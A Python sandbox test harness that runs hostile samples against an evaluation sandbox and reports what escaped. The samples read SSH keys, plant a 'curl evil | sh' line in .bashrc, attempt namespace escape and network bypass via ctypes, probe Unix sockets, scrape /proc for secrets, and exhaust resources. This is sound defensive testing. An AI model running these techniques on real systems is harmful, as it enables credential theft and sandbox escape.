"""Hostile samples against the real sandbox, and what the host saw afterwards.

`main()` runs in a process of its own (as root or as an unprivileged user, see sandbox_users.py),
with HOME pointing at a throw-away home and the current directory at a throw-away project, both
owned by that user. Each attack runs as one sample through `run_python`, with the paths it goes
after spelled out (the worst case: the sample knows where everything is). The sample writes what it
managed on stderr; the host records that, plus what it can see itself (files left behind,
connections that arrived, processes still running). test_eval_sandbox_attacks.py asserts on it.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import threading
import time
from pathlib import Path

from bbjtune.evaluate.sandbox import Limits, detect_isolation, run_python

LIMITS = Limits(wall_s=20, cpu_s=10, memory_mb=512, max_processes=32)
SECRET = os.environ.get("BBJTUNE_TEST_SECRET", "")


class Listener:
    """A host socket (TCP on the loopback, or Unix) that records whether anything reached it."""

    def __init__(self, unix_path: str | None = None):
        if unix_path:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.bind(unix_path)
            os.chmod(unix_path, 0o777)
            self.address = unix_path
        else:
            self.sock = socket.socket()
            self.sock.bind(("127.0.0.1", 0))
            self.address = self.sock.getsockname()
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.reached = 0
        self._stop = False
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.reached += 1
            conn.close()

    def close(self) -> int:
        time.sleep(0.3)
        self._stop = True
        self._thread.join()
        self.sock.close()
        return self.reached


def _run(program: str, limits: Limits = LIMITS) -> dict:
    result = run_python(program, limits)
    return {"status": result.status, "reason": result.reason, "stderr": result.stderr_tail[-1500:]}


def _processes_with(marker: str) -> list[str]:
    out = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True, check=False).stdout
    return [line for line in out.splitlines() if marker in line and "ps -eo" not in line]


def attack_home(home: Path) -> dict:
    key, bashrc = home / ".ssh" / "id_rsa", home / ".bashrc"
    key.parent.mkdir(mode=0o700)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- secret-key-material\n")
    key.chmod(0o600)
    bashrc.write_text("# the user's shell setup\n")
    program = (
        f"import sys\n"
        f"try:\n    sys.stderr.write('KEY:' + open({str(key)!r}).read())\n"
        f"except OSError as exc:\n    sys.stderr.write('no key: %r\\n' % exc)\n"
        f"try:\n    open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\n"
        f"except OSError as exc:\n    sys.stderr.write('no bashrc: %r\\n' % exc)\n"
    )
    seen = _run(program)
    return {
        **seen,
        "key_read": "secret-key-material" in seen["stderr"],
        "bashrc_changed": "evil" in bashrc.read_text(),
    }


def attack_project(project: Path) -> dict:
    marker = project / f"escaped-{secrets.token_hex(4)}"
    program = (
        "import ctypes, os, sys\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "out = []\n"
        # a new user + mount namespace would make the sample 'root' there, able to unmount
        "out.append(('unshare', libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno()))\n"
        f"out.append(('umount', libc.umount2({str(project).encode()!r}, 2), ctypes.get_errno()))\n"
        f"try:\n    out.append(('read', open({str(project / 'pyproject.toml')!r}).read()))\n"
        "except OSError as exc:\n    out.append(('read', repr(exc)))\n"
        f"try:\n    open({str(marker)!r}, 'w').write('x')\n    out.append(('write', 'ok'))\n"
        "except OSError as exc:\n    out.append(('write', repr(exc)))\n"
        "sys.stderr.write(repr(out))\n"
    )
    seen = _run(program)
    escaped = marker.exists()
    if escaped:
        marker.unlink()
    return {**seen, "project_read": "project-secret" in seen["stderr"], "project_written": escaped}


def attack_network() -> dict:
    tcp = Listener()
    host, port = tcp.address
    connect = f"import socket; s = socket.socket(); s.settimeout(2); s.connect(({host!r}, {port}))"
    program = (
        "import ctypes, socket, struct, subprocess, sys\n"
        # a child program is not bound by anything set up inside this Python process
        f"r = subprocess.run([sys.executable, '-c', {connect!r}], capture_output=True, text=True)\n"
        "sys.stderr.write('subprocess: %d %s\\n' % (r.returncode, r.stderr.strip()[-120:]))\n"
        # raw system calls through ctypes skip every Python-level hook
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.socket(2, 1, 0)\n"
        f"addr = struct.pack('!HH4s8x', 2, {port}, socket.inet_aton({host!r}))\n"
        "addr = struct.pack('=H', 2) + addr[2:]\n"
        "rc = libc.connect(fd, addr, len(addr))\n"
        "sys.stderr.write('ctypes: %d errno %d\\n' % (rc, ctypes.get_errno()))\n"
    )
    seen = _run(program)
    return {**seen, "connections": tcp.close()}


def attack_unix_sockets(workspace: Path) -> dict:
    agent = Listener(str(workspace / "agent.sock"))  # as ssh-agent's socket
    in_tmp = Listener(f"/tmp/bbjtune-test-{secrets.token_hex(4)}.sock")
    program = (
        "import socket, sys\n"
        f"for path in ({agent.address!r}, {in_tmp.address!r}):\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.sendall(b'hello')\n"
        "        sys.stderr.write('reached %s\\n' % path)\n"
        "    except OSError as exc:\n"
        "        sys.stderr.write('refused %s: %r\\n' % (path, exc))\n"
    )
    seen = _run(program)
    reached = agent.close() + in_tmp.close()
    os.unlink(in_tmp.address)
    return {**seen, "connections": reached}


def attack_proc() -> dict:
    program = (
        "import os, sys\n"
        "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "found = []\n"
        "for p in pids:\n"
        "    for name in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            text = open('/proc/%s/%s' % (p, name), 'rb').read().decode('latin-1')\n"
        "            found += [part for part in text.split('\\0') if 'harness-secret-' in part]\n"
        "        except OSError:\n"
        "            pass\n"
        "sys.stderr.write('PIDS %d\\n' % len(pids))\n"
        "sys.stderr.write('\\n'.join(found)[-1200:])\n"
    )
    seen = _run(program)
    pids = int(seen["stderr"].split("PIDS ", 1)[1].split()[0]) if "PIDS " in seen["stderr"] else -1
    return {**seen, "visible_pids": pids, "secret_seen": bool(SECRET) and SECRET in seen["stderr"]}


def attack_memory() -> dict:
    # six children of 200 MiB each: far below the 512 MiB limit one by one, 1.2 GiB together
    program = (
        "import os, time\n"
        "for _ in range(6):\n"
        "    if os.fork() == 0:\n"
        "        block = bytearray(200 << 20)\n"
        "        time.sleep(15)\n"
        "        os._exit(0)\n"
        "time.sleep(15)\n"
    )
    return _run(program)


def attack_leftovers() -> dict:
    marker = f"bbjtune-leftover-{secrets.token_hex(4)}"
    program = (
        "import sys\n"
        f"for d in ('/tmp', '/var/tmp', '/dev/shm'):\n"
        "    try:\n"
        f"        open(d + '/{marker}', 'wb').write(b'x' * 4096)\n"
        "    except OSError as exc:\n"
        "        sys.stderr.write('%s: %r\\n' % (d, exc))\n"
        # 300 MiB in RAM through /dev/shm
        "try:\n"
        f"    with open('/dev/shm/{marker}-big', 'wb') as fh:\n"
        "        for _ in range(300):\n"
        "            fh.write(b'x' * (1 << 20))\n"
        "    sys.stderr.write('shm: wrote 300 MiB\\n')\n"
        "except OSError as exc:\n"
        "    sys.stderr.write('shm: %r\\n' % exc)\n"
    )
    seen = _run(program)
    left = [str(p) for d in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(d).glob(marker + "*")]
    for path in left:
        os.unlink(path)
    return {**seen, "left_behind": left}


def attack_background() -> dict:
    marker = f"bbjtune_daemon_{secrets.token_hex(4)}"
    program = (
        "import os, subprocess, sys, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; {marker} = 1; time.sleep(30)'])\n"
        "    os._exit(0)\n"
        "time.sleep(0.5)\n"
    )
    seen = _run(program)
    still = _processes_with(marker)  # right away: nothing may outlive the sample, even briefly
    for line in still:
        pid = line.split()[0]
        if pid.isdigit():
            subprocess.run(["kill", "-9", pid], capture_output=True, check=False)
    return {**seen, "survivors": still}


def main() -> None:
    home, project = Path.home(), Path.cwd()
    (project / "pyproject.toml").write_text("[project]\nname = 'project-secret'\n")
    report = {
        "isolation": detect_isolation().describe(),
        "home": attack_home(home),
        "project": attack_project(project),
        "network": attack_network(),
        "unix_sockets": attack_unix_sockets(home),
        "proc": attack_proc(),
        "memory": attack_memory(),
        "leftovers": attack_leftovers(),
        "background": attack_background(),
    }
    print(json.dumps(report))


if __name__ == "__main__":
    main()
